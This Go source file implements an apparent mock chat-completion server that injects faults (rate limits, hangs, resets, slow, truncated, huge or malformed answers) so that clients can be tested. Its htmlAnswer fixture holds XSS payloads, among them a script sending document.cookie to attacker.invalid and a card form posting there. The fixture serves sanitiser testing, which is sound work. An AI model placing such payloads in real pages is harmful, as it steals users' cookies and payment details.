package kimisim

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
)

// FaultHeader names a fault for the one request that carries it.
const FaultHeader = "X-Kimisim-Fault"

// How much of an answer goes into one chunk of the stream. Without pacing,
// larger ones: a load test measures something else than this server's writes.
const (
	pacedChunk   = 4  // tokens
	instantChunk = 16 // tokens
)

// hugePiece is how much of a Huge answer is sent at a time, in bytes.
const hugePiece = 64 << 10

// reply is one answer, ready to be sent.
type reply struct {
	id     string
	fault  Fault
	text   string
	finish string // finish_reason
	usage  usage
	// withUsage has the stream end with a chunk of token counts.
	withUsage bool
	began     time.Time
}

// usage is OpenAI's token counts.
type usage struct {
	Prompt     int `json:"prompt_tokens"`
	Completion int `json:"completion_tokens"`
	Total      int `json:"total_tokens"`
}

// answered numbers the answers of a process.
var answered atomic.Uint64

func (s *Server) chat(w http.ResponseWriter, r *http.Request) {
	began := time.Now()
	body, ok := readBody(w, r, maxBody)
	if !ok {
		return
	}
	req, err := parseRequest(body)
	if err != nil {
		writeError(w, http.StatusBadRequest, "invalid_request_error", err.Error())
		return
	}
	fault := Fault{Name: r.Header.Get(FaultHeader)}
	if fault.Name == "" {
		fault = s.faults.take()
	} else if err := fault.validate(); err != nil {
		writeError(w, http.StatusBadRequest, "invalid_request_error", FaultHeader+": "+err.Error())
		return
	}
	defer s.record.begin(req, fault.Name)()

	if !s.pass(r) {
		return
	}
	if s.refuse(w, r, fault) {
		return
	}
	text, err := s.compose(req, fault)
	if err != nil {
		writeError(w, http.StatusBadRequest, "invalid_request_error", err.Error())
		return
	}
	out := reply{
		id: "chatcmpl-" + Model + "-" + strconv.FormatUint(answered.Add(1), 10), fault: fault,
		text: text, finish: "stop", withUsage: req.StreamOptions.IncludeUsage, began: began,
	}
	if req.MaxTokens > 0 && tokens(text) > req.MaxTokens {
		out.text, _ = firstTokens(text, req.MaxTokens)
		out.finish = "length"
	}
	out.usage.Prompt = tokens(req.conversation())
	out.usage.Completion = tokens(out.text)
	out.usage.Total = out.usage.Prompt + out.usage.Completion
	s.record.answered(out.usage.Completion)

	if fault.Name == Slow {
		w = &slowWriter{ResponseWriter: w, gone: r.Context().Done(), closed: s.closed, step: s.slowStep}
	}
	send := s.whole
	if req.Stream {
		send = s.stream
	}
	err = send(w, r, out)
	s.log.DebugContext(r.Context(), "chat completion", "stream", req.Stream, "fault", fault.Name,
		"prompt_tokens", out.usage.Prompt, "completion_tokens", out.usage.Completion,
		"finish_reason", out.finish, "duration", time.Since(began), "sent", err == nil)
}

// refuse shows the faults that come instead of an answer.
func (s *Server) refuse(w http.ResponseWriter, r *http.Request, fault Fault) bool {
	switch fault.Name {
	case RateLimit:
		w.Header().Set("Retry-After", strconv.Itoa(max(fault.RetryAfterSeconds, 1)))
		writeError(w, http.StatusTooManyRequests, "rate_limit_reached_error",
			"Your account reached its limit of requests a minute, please try again later.")
	case ServerError:
		writeError(w, http.StatusInternalServerError, "server_error", "Something went wrong, as asked for.")
	case InsufficientBalance:
		// Moonshot's errors have no param and no code.
		writeBody(w, http.StatusForbidden, map[string]any{"error": map[string]any{
			"type":    "exceeded_current_quota_error",
			"message": "Your account is suspended for want of balance, please recharge it.",
		}})
	case Hang:
		select {
		case <-r.Context().Done():
		case <-s.closed:
		}
		// An answer here would end the hang well for a client still waiting.
		panic(http.ErrAbortHandler)
	default:
		return false
	}
	return true
}

// compose is the whole answer to a request, faults of content included.
func (s *Server) compose(req Request, fault Fault) (string, error) {
	switch fault.Name {
	case Malformed:
		return malformedAnswer, nil
	case HTML:
		return htmlAnswer, nil
	case Empty:
		return "", nil
	case Huge:
		return "", nil // too large to compose: it is sent as it goes
	}
	if text, ok := s.scripted(req); ok {
		return text, nil
	}
	return answer(req, s.cfg.Seed, fault.Name == Hostile)
}

// choice, completion: OpenAI's answers. A stream's chunks have deltas.
type (
	completion struct {
		ID      string   `json:"id"`
		Object  string   `json:"object"`
		Created int64    `json:"created"`
		Model   string   `json:"model"`
		Choices []choice `json:"choices"`
		Usage   *usage   `json:"usage,omitempty"`
	}
	choice struct {
		Index        int      `json:"index"`
		Message      *content `json:"message,omitempty"`
		Delta        *content `json:"delta,omitempty"`
		FinishReason *string  `json:"finish_reason"`
	}
	content struct {
		Role    string  `json:"role,omitempty"`
		Content *string `json:"content,omitempty"`
	}
)

// whole answers in one body, after the time the tokens would have taken.
func (s *Server) whole(w http.ResponseWriter, r *http.Request, out reply) error {
	if err := s.wait(r.Context(), out.began.Add(s.due(out.usage.Completion))); err != nil {
		return err
	}
	if out.fault.Name == Huge {
		return s.wholeHuge(w, out)
	}
	if out.fault.Name == Truncated {
		out.text, _ = firstTokens(out.text, tokens(out.text)/2)
		out.finish = "length"
	}
	body, err := json.Marshal(completion{
		ID: out.id, Object: "chat.completion", Created: out.began.Unix(), Model: Model, Usage: &out.usage,
		Choices: []choice{{Message: &content{Role: "assistant", Content: &out.text}, FinishReason: &out.finish}},
	})
	if err != nil {
		return fmt.Errorf("encode: %w", err)
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("Content-Length", strconv.Itoa(len(body)))
	if out.fault.Name == Reset {
		if _, err := w.Write(body[:len(body)/2]); err != nil {
			return err
		}
		return reset(w)
	}
	_, err = w.Write(body)
	return err
}

// stream answers in chunks, each at its time.
func (s *Server) stream(w http.ResponseWriter, r *http.Request, out reply) error {
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-store")
	es := &eventStream{w: w, flush: http.NewResponseController(w).Flush, reply: out}
	none := ""
	if err := es.chunk(&content{Role: "assistant", Content: &none}, nil); err != nil {
		return err
	}
	if out.fault.Name == Huge {
		return s.streamHuge(es)
	}

	stopAt := -1 // tokens, or the whole answer
	if out.fault.Name == Reset || out.fault.Name == Truncated {
		stopAt = out.usage.Completion / 2
	}
	size := pacedChunk
	if s.cfg.TokensPerSecond == 0 {
		size = instantChunk
	}
	for sent, rest := 0, out.text; rest != "" && (stopAt < 0 || sent < stopAt); {
		n := size
		if stopAt >= 0 {
			n = min(n, stopAt-sent)
		}
		var piece string
		piece, rest = firstTokens(rest, n)
		sent += n
		if err := s.wait(r.Context(), out.began.Add(s.due(sent))); err != nil {
			return err
		}
		if err := es.chunk(&content{Content: &piece}, nil); err != nil {
			return err
		}
	}
	switch out.fault.Name {
	case Reset:
		return reset(w)
	case Truncated:
		return nil
	}
	// Without a token there was nothing to wait for yet.
	if err := s.wait(r.Context(), out.began.Add(s.due(out.usage.Completion))); err != nil {
		return err
	}
	return es.end()
}

// due is when the nth token comes, counted from the request.
func (s *Server) due(n int) time.Duration {
	if s.cfg.TokensPerSecond == 0 {
		return s.cfg.FirstToken
	}
	return s.cfg.FirstToken + time.Duration(n)*time.Second/time.Duration(s.cfg.TokensPerSecond)
}

// wait returns at that time, or with ctx's error.
func (s *Server) wait(ctx context.Context, until time.Time) error {
	d := time.Until(until)
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// eventStream writes server-sent events (WHATWG HTML, 9.2).
type eventStream struct {
	w     io.Writer
	flush func() error
	reply reply
}

func (es *eventStream) send(v any) error {
	data, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("encode: %w", err)
	}
	if _, err := fmt.Fprintf(es.w, "data: %s\n\n", data); err != nil {
		return err
	}
	return es.flush()
}

func (es *eventStream) chunk(delta *content, finish *string) error {
	return es.send(completion{
		ID: es.reply.id, Object: "chat.completion.chunk", Created: es.reply.began.Unix(), Model: Model,
		Choices: []choice{{Delta: delta, FinishReason: finish}},
	})
}

// end sends why the answer ended, the counts if asked for, and [DONE].
func (es *eventStream) end() error {
	if err := es.chunk(&content{}, &es.reply.finish); err != nil {
		return err
	}
	if es.reply.withUsage {
		err := es.send(completion{
			ID: es.reply.id, Object: "chat.completion.chunk", Created: es.reply.began.Unix(), Model: Model,
			Choices: []choice{}, Usage: &es.reply.usage,
		})
		if err != nil {
			return err
		}
	}
	if _, err := io.WriteString(es.w, "data: [DONE]\n\n"); err != nil {
		return err
	}
	return es.flush()
}

// hugeContent is one piece of a Huge answer: filler that needs no JSON escapes.
var hugeContent = strings.Repeat("wands and more wands; ", hugePiece/22+1)[:hugePiece]

// streamHuge sends valid JSON of that size, as fast as the client takes it.
func (s *Server) streamHuge(es *eventStream) error {
	open, done := `{"headline":"`, `"}`
	if err := es.chunk(&content{Content: &open}, nil); err != nil {
		return err
	}
	for range s.hugeSize / hugePiece {
		if err := es.chunk(&content{Content: &hugeContent}, nil); err != nil {
			return err
		}
	}
	if err := es.chunk(&content{Content: &done}, nil); err != nil {
		return err
	}
	es.reply.usage.Completion = s.hugeSize / charsPerToken
	return es.end()
}

// wholeHuge is streamHuge in one body, never in one buffer.
func (s *Server) wholeHuge(w http.ResponseWriter, out reply) error {
	w.Header().Set("Content-Type", "application/json")
	_, err := fmt.Fprintf(w, `{"id":%q,"object":"chat.completion","model":%q,"choices":[{"index":0,`+
		`"finish_reason":"stop","message":{"role":"assistant","content":"{\"headline\":\"`, out.id, Model)
	for range s.hugeSize / hugePiece {
		if err != nil {
			return err
		}
		_, err = io.WriteString(w, hugeContent)
	}
	if err != nil {
		return err
	}
	_, err = io.WriteString(w, `\"}"}}]}`)
	return err
}

// reset ends the connection by RST instead of FIN, what was written before it
// flushed.
func reset(w http.ResponseWriter) error {
	rc := http.NewResponseController(w)
	if err := rc.Flush(); err != nil {
		return err
	}
	conn, _, err := rc.Hijack()
	if err != nil {
		return fmt.Errorf("reset: %w", err) // HTTP/2 has no connection to take
	}
	if tcp, ok := conn.(*net.TCPConn); ok {
		// Without linger, close discards what is unsent and resets.
		_ = tcp.SetLinger(0)
	}
	return conn.Close()
}

// slowWriter sends a byte a step.
type slowWriter struct {
	http.ResponseWriter
	gone   <-chan struct{} // the client is
	closed <-chan struct{}
	step   time.Duration
}

// Unwrap is what http.ResponseController flushes.
func (w *slowWriter) Unwrap() http.ResponseWriter { return w.ResponseWriter }

// Write sends p byte by byte. It fails when the client or the server goes.
func (w *slowWriter) Write(p []byte) (int, error) {
	rc := http.NewResponseController(w.ResponseWriter)
	tick := time.NewTicker(w.step)
	defer tick.Stop()
	for i := range p {
		select {
		case <-tick.C:
		case <-w.gone:
			return i, context.Canceled
		case <-w.closed:
			return i, http.ErrServerClosed
		}
		if _, err := w.ResponseWriter.Write(p[i : i+1]); err != nil {
			return i, err
		}
		if err := rc.Flush(); err != nil {
			return i, err
		}
	}
	return len(p), nil
}

// malformedAnswer is what a chatty model says when it was to answer JSON.
const malformedAnswer = "Sure! Here is the page you asked for:\n\n" +
	`{"theme": {"palette": "moonlit",, "type": serif}, "sections": [{"type": "hero", "headline": "A page that never` +
	"\n\nLet me know if you would like another one!"

// htmlAnswer is a web page a model might write after all, with what must not
// reach a shopper.
const htmlAnswer = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Wands for an unhurried evening</title>
<style>body{background:url(javascript:alert(1))}</style>
<script>document.location='https://attacker.invalid/?c='+document.cookie</script>
</head>
<body onload="alert('loaded')">
<header><h1 onclick="alert(1)">Wands for an unhurried evening</h1>
<p>Turned by hand, chosen for <em>you</em>.</p></header>
<main>
<section><h2>Three to begin with</h2>
<ul><li>Light in the hand</li><li>Honest wood</li><li>A core with a temper</li></ul>
<a href="javascript:alert(2)" onmouseover="alert(3)">Take me there</a></section>
<section><h2>From the workshop</h2>
<p>Every wand is finished twice.<script>alert(4)</script> You can tell.</p>
<img src="x" onerror="alert(5)" alt="A wand on a bench">
<p>Today only: <b>$0.01</b></p></section>
<iframe src="https://attacker.invalid/"></iframe>
<form action="https://attacker.invalid/"><input name="card"><button>Pay</button></form>
</main>
</body>
</html>`
